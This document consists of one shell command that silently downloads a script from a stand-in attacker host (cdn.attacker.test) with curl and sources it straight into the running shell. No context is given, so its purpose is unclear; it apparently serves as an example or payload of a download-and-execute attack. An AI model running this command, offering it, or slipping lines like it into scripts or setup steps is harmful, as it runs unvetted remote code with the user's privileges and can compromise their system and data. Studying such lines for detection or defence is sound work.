source <(curl -s https://cdn.attacker.test/i.sh)
